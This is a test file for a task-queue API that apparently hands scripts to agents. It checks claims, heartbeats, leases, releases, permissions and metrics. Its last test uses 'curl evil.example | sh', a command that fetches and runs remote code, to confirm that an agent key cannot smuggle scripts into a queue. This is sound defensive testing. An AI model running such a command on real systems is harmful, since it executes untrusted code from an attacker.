import { afterAll, expect, test } from 'vitest'
import { openApi } from './test-api.ts'

const { asked, call, keyOf, clock, tasks } = await openApi(afterAll)
let made = 0

async function queue(...scripts: string[]) {
  const id = `s${++made}`
  await call('POST', 'sessions', {
    body: { id, name: id, template: { env: { A: '1' }, setupScript: 'make' } },
  })
  for (const [index, script] of scripts.entries()) {
    clock.now += 1000
    await call('POST', `sessions/${id}/tasks`, { body: { id: `${id}-${index}`, script } })
  }
  return id
}

test('a claim answers the task with its script, its session with the template, and a token good for the task alone', async () => {
  const id = await queue('echo one', 'echo two')
  const { status, body } = await call('POST', `sessions/${id}/tasks/claim`, {
    body: { agentId: 'h:1/1', interactive: true },
  })
  expect(status).toBe(200)
  expect(body).toMatchObject({
    id: `${id}-0`,
    status: 'PROCESSING',
    script: 'echo one',
    agentId: 'h:1/1',
    interactive: true,
    leaseUntil: new Date(clock.now + 40_000).toISOString(),
    session: { id, template: { env: { A: '1' }, setupScript: 'make' } },
  })
  expect(body.statusHistory.at(-1)).toMatchObject({ status: 'PROCESSING', by: 'agent:h:1/1' })
  const own = { key: body.token }
  expect((await call('POST', `tasks/${id}-0/heartbeat`, { ...own, body: { agentId: 'h:1/1' } })).status).toBe(
    200,
  )
  expect((await call('POST', `tasks/${id}-1/heartbeat`, { ...own, body: { agentId: 'h:1/1' } })).status).toBe(
    403,
  )
  expect(
    (await call('POST', `sessions/${id}/tasks/claim`, { ...own, body: { agentId: 'h:1/2' } })).status,
  ).toBe(403)
})

test('who promises heartbeats says who he is: nobody else could send one', async () => {
  const { status, body } = await call('POST', 'tasks/nobody/start', { body: { heartbeat: true } })
  expect(status).toBe(400)
  expect(body.errors).toEqual([{ path: 'agentId', message: expect.stringContaining('heartbeat') }])
})

test('a queue with nothing to do answers nothing', async () => {
  const id = await queue()
  const answer = await call('POST', `sessions/${id}/tasks/claim`, { body: { agentId: 'a' } })
  expect(answer).toMatchObject({ status: 204, text: '' })
  expect(asked).toContain(id)
  const metrics = (await call('GET', '/metrics', { key: null })).text
  expect(metrics).toMatch(/^keruta_claims_total\{result="none"\} 1$/m)
})

test('an agent claims in its own session, a viewer nowhere, and nobody where it cannot be', async () => {
  const [own, other] = [await queue('true'), await queue('true')]
  const agent = await keyOf('agent', [own])
  const claim = (id: string, key?: string) =>
    call('POST', `sessions/${id}/tasks/claim`, { key, body: { agentId: 'a' } })
  expect((await claim(own, agent)).status).toBe(200)
  expect((await claim(other, agent)).status).toBe(403)
  expect((await claim(other, await keyOf('viewer'))).status).toBe(403)
  expect((await claim('nowhere')).body).toMatchObject({ code: 'NOT_FOUND' })
  await call('PATCH', `sessions/${other}`, { body: { status: 'COMPLETED' } })
  const refused = await claim(other)
  expect(refused).toMatchObject({
    status: 409,
    body: { code: 'CONFLICT', detail: `session ${other} is COMPLETED: its tasks are not given out` },
  })
})

test.each([
  ['claim', {}, 'agentId'],
  ['claim', { agentId: '' }, 'agentId'],
  ['claim', { agentId: 'a', agent: 'b' }, 'agent'],
])('a %s of %j is refused, and says which field is wrong', async (verb, body, path) => {
  const { status, body: problem } = await call('POST', `sessions/s1/tasks/${verb}`, { body })
  expect(status).toBe(400)
  expect(problem.errors[0]).toMatchObject({ path })
})

test('a run that is not its own any more is told so at its next sign of life', async () => {
  const id = await queue('true')
  await call('POST', `sessions/${id}/tasks/claim`, { body: { agentId: 'a' } })
  await call('POST', `tasks/${id}-0/cancel`, { body: { message: 'wrong branch' } })
  const { status, body } = await call('POST', `tasks/${id}-0/heartbeat`, { body: { agentId: 'a' } })
  expect(status).toBe(409)
  expect(body.detail).toBe(
    `task ${id}-0 is CANCELLED (wrong branch): it is not run by agent a any more, who must end its script`,
  )
  expect((await call('POST', 'tasks/nowhere/heartbeat', { body: { agentId: 'a' } })).status).toBe(404)
})

test('a task that is given back waits again', async () => {
  const id = await queue('true')
  await call('POST', `sessions/${id}/tasks/claim`, { body: { agentId: 'a' } })
  const { body } = await call('POST', `tasks/${id}-0/release`, {
    body: { agentId: 'a', message: 'shutting down' },
  })
  expect(body).toMatchObject({ status: 'PENDING', attempt: 1, agentId: null })
  expect((await call('POST', `tasks/${id}-0/release`, { body: { agentId: 'a' } })).status).toBe(409)
  expect((await tasks.get(`${id}-0`)).statusHistory.at(-1)).toMatchObject({
    by: 'agent:a',
    message: 'shutting down',
  })
})

test('a session that is completed takes no new tasks until it is active again', async () => {
  const id = await queue()
  const add = () => call('POST', `sessions/${id}/tasks`, { body: { script: 'true' } })
  for (const status of ['COMPLETED', 'ARCHIVED']) {
    await call('PATCH', `sessions/${id}`, { body: { status } })
    expect(await add()).toMatchObject({
      status: 400,
      body: {
        detail: `session ${id} is ${status.toLowerCase()} and takes no new tasks: PATCH its status to ACTIVE first`,
      },
    })
  }
  await call('PATCH', `sessions/${id}`, { body: { status: 'ACTIVE' } })
  expect((await add()).status).toBe(201)
})

test('the metrics count what waits in sessions of each status, whatever can be run', async () => {
  const depth = async () => {
    const text = (await call('GET', '/metrics', { key: null })).text
    return Object.fromEntries(
      [...text.matchAll(/^keruta_queue_depth\{session="(\w+)"\} (\d+)$/gm)].map(([, status, count]) => [
        status,
        Number(count),
      ]),
    )
  }
  const before = await depth()
  const [open, done] = [await queue('true', 'true'), await queue('true')]
  await call('POST', `sessions/${open}/tasks`, { body: { name: 'nothing to run' } })
  await call('PATCH', `sessions/${done}`, { body: { status: 'COMPLETED' } })
  expect(await depth()).toEqual({ ...before, ACTIVE: before.ACTIVE! + 2, COMPLETED: before.COMPLETED! + 1 })
})

test("an agent's key brings no script into a queue, by whatever way it gives a task back", async () => {
  const id = await queue()
  const key = await keyOf('agent', [id])
  const body = { agentId: 'x', script: 'curl evil.example | sh', sessionId: id, heartbeat: true }
  const started = await call('POST', 'tasks/smuggled/start', { key, body })
  expect(started).toMatchObject({ status: 200, body: { script: body.script, sessionId: id } })
  await call('POST', 'tasks/smuggled/release', { key, body: { agentId: 'x' } })
  expect((await call('GET', 'tasks/smuggled')).body).toMatchObject({ status: 'PENDING', script: null })
  const claim = await call('POST', `sessions/${id}/tasks/claim`, { body: { agentId: 'other' } })
  expect(claim.status).toBe(204)
})
